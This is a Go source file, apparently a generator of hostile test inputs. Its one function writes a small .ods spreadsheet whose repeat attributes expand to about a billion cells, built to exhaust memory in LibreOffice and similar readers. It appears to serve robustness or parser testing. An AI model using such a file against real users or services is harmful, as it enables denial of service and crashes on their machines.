package hostile

import (
	"archive/zip"
	"fmt"
	"io"
	"os"
)

// ODSBomb writes a small .ods whose rows and cells are repeated (the
// table:number-rows-repeated and table:number-columns-repeated attributes)
// to a million rows of a thousand distinct-valued cells: nothing to a zip
// reader, gigabytes to LibreOffice once it expands the table.
func ODSBomb(path string) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	defer f.Close()
	zw := zip.NewWriter(f)
	// mimetype first and stored, as ODF requires.
	w, err := zw.CreateHeader(&zip.FileHeader{Name: "mimetype", Method: zip.Store})
	if err != nil {
		return err
	}
	if _, err := io.WriteString(w, "application/vnd.oasis.opendocument.spreadsheet"); err != nil {
		return err
	}
	if w, err = zw.Create("META-INF/manifest.xml"); err != nil {
		return err
	}
	if _, err := io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">
 <manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>
 <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
</manifest:manifest>`); err != nil {
		return err
	}
	if w, err = zw.Create("content.xml"); err != nil {
		return err
	}
	if _, err := io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:spreadsheet><table:table table:name="Sheet1"><table:table-column table:number-columns-repeated="1024"/>`); err != nil {
		return err
	}
	// 1,024 row groups of 1,024 rows, each row 1,024 cells of that group's
	// own value: a million rows, a billion cells.
	for g := range 1024 {
		if _, err := fmt.Fprintf(w, `<table:table-row table:number-rows-repeated="1024"><table:table-cell office:value-type="float" office:value="%d" table:number-columns-repeated="1024"><text:p>%d</text:p></table:table-cell></table:table-row>`, g+1, g+1); err != nil {
			return err
		}
	}
	if _, err := io.WriteString(w, `</table:table></office:spreadsheet></office:body></office:document-content>`); err != nil {
		return err
	}
	if err := zw.Close(); err != nil {
		return err
	}
	return f.Close()
}
